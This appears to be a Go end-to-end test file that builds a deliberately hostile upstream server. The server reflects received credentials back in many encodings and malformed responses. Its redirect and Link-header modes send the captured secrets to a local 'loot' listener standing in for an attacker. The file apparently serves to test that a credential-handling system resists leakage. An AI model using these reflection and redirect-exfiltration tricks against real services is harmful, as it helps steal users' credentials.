//go:build linux

package e2e

import (
	"bytes"
	"compress/gzip"
	"crypto/ecdsa"
	"crypto/tls"
	"crypto/x509"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"html"
	"io"
	"log"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"strings"
	"sync"
	"testing"
)

// mirror is an upstream that shows whoever asks all that it was sent: its own
// credential first of all, in every form and place that an answer has.
type mirror struct {
	open, mutual *httptest.Server // over http, and over TLS for clients with a certificate
	loot         *loot
	hoard        *hoard
	lets         func(user, password string) error // the database behind it

	mu       sync.Mutex   // guards below
	received bytes.Buffer // the rightful place of what it was sent
	asked    map[string]int
	refused  []string // credentials that opened nothing
}

// loot is a listener of the attacker's own: whatever reaches it was lost.
type loot struct {
	*httptest.Server
	mu  sync.Mutex // guards below
	got bytes.Buffer
}

func newLoot(t *testing.T) *loot {
	l := &loot{}
	l.Server = httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		dump, err := httputil.DumpRequest(r, true)
		l.mu.Lock()
		defer l.mu.Unlock()
		fmt.Fprintf(&l.got, "%s %v\n", dump, err)
	}))
	t.Cleanup(l.Close)
	return l
}

func (l *loot) text() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.got.String()
}

func newMirror(t *testing.T, h *hoard, l *loot, authority string) *mirror {
	m := &mirror{loot: l, hoard: h, asked: map[string]int{}}
	m.open = httptest.NewServer(m)
	m.mutual = httptest.NewUnstartedServer(m)
	pool := x509.NewCertPool()
	if !pool.AppendCertsFromPEM([]byte(authority)) {
		t.Fatal("the engine's authority is no certificate")
	}
	m.mutual.TLS = &tls.Config{ClientAuth: tls.RequireAndVerifyClientCert, ClientCAs: pool}
	for _, s := range []*httptest.Server{m.open, m.mutual} {
		s.Config.ErrorLog = log.New(io.Discard, "", 0)
		t.Cleanup(s.Close)
	}
	m.mutual.StartTLS()
	return m
}

// sent are the secrets of a request: what stands in its headers, and what those mean.
func (m *mirror) sent(r *http.Request) (all []string) {
	for name, values := range r.Header {
		switch name {
		case "Authorization":
			_, value, _ := strings.Cut(values[0], " ")
			all = append(all, value)
			if user, password, ok := r.BasicAuth(); ok {
				all = append(all, password)
				m.opens(user, password)
			}
		case "X-Password":
			all = append(all, values[0])
			m.opens(r.Header.Get("X-User"), values[0])
		case "Signature":
			all = append(all, strings.TrimSuffix(strings.TrimPrefix(values[0], "sig1=:"), ":"))
		}
	}
	return all
}

// times that a tool was asked for in a mode.
func (m *mirror) times(alias, mode string) int {
	m.mu.Lock()
	defer m.mu.Unlock()
	return m.asked["/"+alias+" "+mode]
}

func (m *mirror) opens(user, password string) {
	m.hoard.add("database password", password)
	if err := m.lets(user, password); err != nil {
		m.mu.Lock()
		defer m.mu.Unlock()
		m.refused = append(m.refused, fmt.Sprintf("%s: %v", user, err))
	}
}

func (m *mirror) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	dump, err := httputil.DumpRequest(r, true)
	all := m.sent(r)
	mode := r.URL.Query().Get("mode")
	m.mu.Lock()
	fmt.Fprintf(&m.received, "%s %v %q\n", dump, err, all)
	m.asked[r.URL.Path+" "+mode]++
	if r.TLS != nil && len(r.TLS.PeerCertificates) > 0 {
		if key, ok := r.TLS.PeerCertificates[0].PublicKey.(*ecdsa.PublicKey); ok {
			if point, err := key.Bytes(); err == nil {
				m.hoard.issuedKey(point)
				all = append(all, hex.EncodeToString(point))
			}
		}
	}
	m.mu.Unlock()
	text := r.Header.Get("Authorization") + " " + strings.Join(all, " ")
	if reflect := reflections[mode]; reflect != nil {
		reflect(m, w, r, text)
		return
	}
	_, _ = io.WriteString(w, `{"mode":`+fmt.Sprintf("%q", mode)+`,"done":true}`)
}

// reflections are the ways in which an upstream shows a text. Those that begin a body
// with the mode's name can be found in a tool's result.
var reflections = map[string]func(m *mirror, w http.ResponseWriter, r *http.Request, text string){
	"text":         body("text/plain", func(s string) string { return s }),
	"joined":       body("text/plain", func(s string) string { return "x" + strings.ReplaceAll(s, " ", "|") + "y" }),
	"json":         body("application/json", func(s string) string { return asJSON(s) }),
	"json-escapes": body("application/json", func(s string) string { return `{"a":"` + escapedAll(s, `\u%04x`) + `"}` }),
	"json-slashes": body("application/json", func(s string) string { return strings.ReplaceAll(asJSON(s), "/", `\/`) }),
	"json-name":    body("application/json", func(s string) string { return `{` + asJSON(s) + `:1}` }),
	"html":         body("text/html", html.EscapeString),
	"base64":       body("text/plain", func(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }),
	"base64-1":     body("text/plain", func(s string) string { return base64.StdEncoding.EncodeToString([]byte("." + s)) }),
	"base64-2":     body("text/plain", func(s string) string { return base64.URLEncoding.EncodeToString([]byte(".." + s)) }),
	"hex":          body("text/plain", func(s string) string { return hex.EncodeToString([]byte(s)) }),
	"HEX":          body("text/plain", func(s string) string { return strings.ToUpper(hex.EncodeToString([]byte(s))) }),
	"query":        body("text/plain", url.QueryEscape),
	"path":         body("text/plain", url.PathEscape),
	"percent":      body("text/plain", func(s string) string { return escapedAll(s, "%%%02x") }),
	"many":         body("text/plain", func(s string) string { return strings.Repeat(strings.Repeat(".", 997)+s, 3000) }),
	"torn":         body("text/plain", func(s string) string { return strings.Join(strings.Split(s, ""), "\xff") + strings.Repeat(".", 3<<20) }),
	"controls":     body("text/plain", func(s string) string { return strings.Join(strings.Split(s, ""), "\x01") }),
	"utf-16":       body("text/plain; charset=utf-16", func(s string) string { return strings.Join(strings.Split(s, ""), "\x00") + "\x00" }),
	"status-400":   page(http.StatusBadRequest), "status-401": page(http.StatusUnauthorized), "status-403": page(http.StatusForbidden),
	"status-404": page(http.StatusNotFound), "status-409": page(http.StatusConflict), "status-500": page(http.StatusInternalServerError), "status-502": page(http.StatusBadGateway),
	"redirect-301": moved(http.StatusMovedPermanently), "redirect-302": moved(http.StatusFound), "redirect-303": moved(http.StatusSeeOther),
	"redirect-307": moved(http.StatusTemporaryRedirect), "redirect-308": moved(http.StatusPermanentRedirect),
	"headers": func(_ *mirror, w http.ResponseWriter, _ *http.Request, text string) {
		for _, name := range []string{"Content-Type", "X-Echo", "Set-Cookie", "WWW-Authenticate", "Retry-After", "ETag", "Server", "Content-Disposition"} {
			w.Header().Set(name, text)
		}
		_, _ = io.WriteString(w, "mode=headers")
	},
	"link": func(m *mirror, w http.ResponseWriter, r *http.Request, text string) {
		w.Header().Add("Link", "<"+m.loot.URL+"/?got="+url.QueryEscape(text)+`>; rel="next"`)
		w.Header().Add("Link", "<?mode=text&again="+url.QueryEscape(text)+`>; rel="next"`)
		_, _ = io.WriteString(w, `["mode=link"]`)
	},
	"early": func(_ *mirror, w http.ResponseWriter, _ *http.Request, text string) {
		w.Header().Set("Link", "<"+url.QueryEscape(text)+">; rel=preload")
		w.WriteHeader(http.StatusEarlyHints)
		_, _ = io.WriteString(w, "mode=early "+text)
	},
	"trailer": func(_ *mirror, w http.ResponseWriter, _ *http.Request, text string) {
		w.Header().Set("Trailer", "X-Echo")
		_, _ = io.WriteString(w, "mode=trailer "+text)
		w.Header().Set("X-Echo", text)
	},
	"pieces": func(_ *mirror, w http.ResponseWriter, _ *http.Request, text string) {
		_, _ = io.WriteString(w, "mode=pieces ")
		for _, c := range []byte(text) {
			_, _ = w.Write([]byte{c})
			_ = http.NewResponseController(w).Flush()
		}
	},
	"half": func(_ *mirror, w http.ResponseWriter, _ *http.Request, text string) {
		_, _ = io.WriteString(w, "mode=half "+text)
		_ = http.NewResponseController(w).Flush()
		panic(http.ErrAbortHandler)
	},
	"short": func(_ *mirror, w http.ResponseWriter, _ *http.Request, text string) {
		w.Header().Set("Content-Length", fmt.Sprint(len(text)+1000))
		_, _ = io.WriteString(w, text)
	},
	"reason":  raw("HTTP/1.1 401 TEXT\r\nContent-Length: 11\r\nConnection: close\r\n\r\nmode=reason"),
	"broken":  raw("HTTP/1.1 200 OK\r\nTEXT\r\nX: TEXT\r\nTransfer-Encoding: TEXT\r\n\r\nTEXT"),
	"no-http": raw("TEXT\r\n\r\nTEXT"),
	"gzip": func(_ *mirror, w http.ResponseWriter, _ *http.Request, text string) {
		w.Header().Set("Content-Encoding", "gzip")
		z := gzip.NewWriter(w)
		_, _ = io.WriteString(z, text)
		_ = z.Close()
	},
	"encoding": func(_ *mirror, w http.ResponseWriter, _ *http.Request, text string) {
		w.Header().Set("Content-Encoding", text)
		_, _ = io.WriteString(w, text)
	},
}

// body is an answer that shows the text in one form.
func body(kind string, form func(string) string) func(*mirror, http.ResponseWriter, *http.Request, string) {
	return func(_ *mirror, w http.ResponseWriter, r *http.Request, text string) {
		w.Header().Set("Content-Type", kind)
		_, _ = io.WriteString(w, "mode="+r.URL.Query().Get("mode")+" "+form(text))
	}
}

// page is an error page.
func page(status int) func(*mirror, http.ResponseWriter, *http.Request, string) {
	return func(_ *mirror, w http.ResponseWriter, r *http.Request, text string) {
		w.Header().Set("WWW-Authenticate", `Bearer realm="`+url.QueryEscape(text)+`"`)
		w.WriteHeader(status)
		_, _ = io.WriteString(w, "mode="+r.URL.Query().Get("mode")+"\nyou sent "+text)
	}
}

// moved leads to the attacker, with the text in the address, and shows it as well.
func moved(status int) func(*mirror, http.ResponseWriter, *http.Request, string) {
	return func(m *mirror, w http.ResponseWriter, r *http.Request, text string) {
		w.Header().Set("Location", m.loot.URL+"/?got="+url.QueryEscape(text))
		w.WriteHeader(status)
		_, _ = io.WriteString(w, "mode="+r.URL.Query().Get("mode")+" see "+text)
	}
}

// raw is an answer as it stands on the wire.
func raw(answer string) func(*mirror, http.ResponseWriter, *http.Request, string) {
	return func(_ *mirror, w http.ResponseWriter, _ *http.Request, text string) {
		c, out, err := http.NewResponseController(w).Hijack()
		if err != nil {
			return
		}
		defer c.Close()
		_, _ = out.WriteString(strings.ReplaceAll(answer, "TEXT", text))
		_ = out.Flush()
	}
}

func asJSON(s string) string {
	b, err := json.Marshal(s)
	if err != nil {
		panic(err) // a text always can be
	}
	return string(b)
}

func escapedAll(s, format string) string {
	var b strings.Builder
	for _, c := range []byte(s) {
		fmt.Fprintf(&b, format, c)
	}
	return b.String()
}
